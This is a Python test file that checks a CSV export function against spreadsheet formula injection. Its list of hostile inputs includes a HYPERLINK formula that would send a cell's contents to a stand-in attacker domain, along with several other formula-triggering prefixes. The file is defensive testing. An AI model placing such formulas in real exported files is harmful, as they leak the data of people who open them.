"""No cell of a file that leaves the house runs as a formula."""

import csv

import pytest
from hypothesis import given
from hypothesis import strategies as st

from onefold.sharing.cells import as_csv, plain_cell
from receivers import event

EVIL = [
    '=HYPERLINK("https://evil.example/?"&A1,"x")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "  =1",
    "\ufeff=1",
    "＝1",
    "\u3000=1",
]


@pytest.mark.parametrize("text", EVIL)
def test_what_begins_a_formula_is_text(text):
    assert str(plain_cell(text)).startswith("'")


@given(st.text(max_size=30), st.text(max_size=30))
def test_a_file_reads_back_with_every_row_in_its_place(one, other):
    rows = [{"a": one, "b": other}, {"a": "x", "b": None}]
    text = as_csv(("a", "b"), rows).decode()
    read = list(csv.DictReader(text.splitlines(keepends=True))) if "\r" not in one + other else []
    for row in read[-1:]:
        assert row == {"a": "x", "b": ""}
    for cell in (plain_cell(one), plain_cell(other)):
        assert not str(cell).lstrip(" \ufeff\u3000\xa0").startswith(("=", "+", "-", "@"))


def test_hostile_names_of_events_and_accounts_stay_text(house):
    house.add("out", "files", settings={"format": "csv"})
    house.world.send(
        *(event(text.strip() or "x", f"m{n}", "ann", n) for n, text in enumerate(EVIL))
    )
    house.run("out")
    (path,) = (house.world.folder / "outgoing" / "out").glob("*.csv")
    with path.open(newline="", encoding="utf-8") as lines:
        rows = list(csv.DictReader(lines))
    assert len(rows) == len(EVIL)
    for row in rows:
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values())
